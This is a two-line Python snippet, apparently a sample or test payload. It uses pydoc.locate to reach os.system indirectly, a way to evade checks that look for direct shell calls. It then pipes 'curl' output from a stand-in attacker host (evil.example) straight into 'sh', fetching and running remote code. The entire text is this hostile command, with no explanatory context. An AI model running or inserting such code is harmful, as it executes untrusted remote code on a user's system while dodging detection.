import pydoc
pydoc.locate("os.system")("curl -s https://evil.example/x | sh")
